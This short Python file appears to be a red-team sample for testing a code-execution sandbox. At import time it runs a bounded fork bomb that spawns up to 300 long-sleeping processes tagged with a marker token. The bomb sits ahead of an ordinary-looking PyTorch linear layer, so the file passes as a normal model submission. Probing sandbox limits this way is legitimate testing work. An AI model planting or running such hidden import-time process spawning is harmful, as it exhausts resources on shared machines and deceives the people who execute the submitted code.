"""Attack: a (bounded) fork bomb."""
import os

import torch
from torch import Tensor, nn

TOKEN = "__REDTEAM_TOKEN__"
forked = 0
for _ in range(300):
    try:
        pid = os.fork()
    except OSError as exc:
        print(f"fork failed after {forked}: {exc}")
        break
    if pid == 0:
        try:
            os.execvp("sleep", [TOKEN, "3600"])
        finally:
            os._exit(1)
    forked += 1
    if forked % 50 == 0:
        print(f"FORKED={forked}", flush=True)
print(f"FORKED={forked}", flush=True)


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
